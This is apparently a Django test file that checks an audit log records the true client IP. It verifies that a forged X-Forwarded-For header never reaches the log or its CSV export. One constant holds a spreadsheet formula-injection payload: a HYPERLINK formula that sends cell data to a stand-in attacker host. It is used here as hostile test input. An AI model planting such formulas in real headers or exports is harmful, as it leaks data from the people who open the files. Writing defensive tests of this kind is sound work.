"""The audit log's address is the client's as `helhedsplan.core.client` decides it: a forged
X-Forwarded-For never lands in the log (nor, through it, in the CSV export)."""

from django.test import override_settings
from django.urls import reverse

from helhedsplan.cases.models import AuditEvent

from .test_cases import a_case, worker  # noqa: F401 (fixtures)

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


def read_case(plan, worker, **headers):  # noqa: F811
    case = a_case(plan, worker.user)
    worker.get(reverse("cases:detail", args=[plan.slug, case.pk]), **headers)
    return AuditEvent.objects.get(case_number=case.pk, action="read")


@override_settings(TRUSTED_PROXIES=[])
def test_a_forged_forwarded_header_is_not_the_audited_address(plan_2025, worker):  # noqa: F811
    event = read_case(plan_2025, worker, REMOTE_ADDR="192.0.2.7", HTTP_X_FORWARDED_FOR=FORMULA)

    assert event.ip_address == "192.0.2.7"


@override_settings(TRUSTED_PROXIES=[])
def test_a_forged_address_is_ignored_without_trusted_proxies(plan_2025, worker):  # noqa: F811
    event = read_case(
        plan_2025, worker, REMOTE_ADDR="192.0.2.7", HTTP_X_FORWARDED_FOR="198.51.100.1"
    )

    assert event.ip_address == "192.0.2.7"


@override_settings(TRUSTED_PROXIES=["10.0.0.0/8"])
def test_behind_a_trusted_proxy_the_client_is_audited(plan_2025, worker):  # noqa: F811
    event = read_case(
        plan_2025, worker, REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR="192.0.2.1, 198.51.100.5"
    )

    assert event.ip_address == "198.51.100.5"


def test_the_audit_csv_holds_no_forged_address(plan_2025, worker, member):  # noqa: F811
    from helhedsplan.accounts.models import Role

    read_case(plan_2025, worker, REMOTE_ADDR="192.0.2.7", HTTP_X_FORWARDED_FOR=FORMULA)
    admin = member(plan_2025, Role.ADMIN)

    csv = admin.get(reverse("cases:audit", args=[plan_2025.slug]), {"format": "csv"})

    assert "HYPERLINK" not in csv.content.decode()
    assert "192.0.2.7" in csv.content.decode()
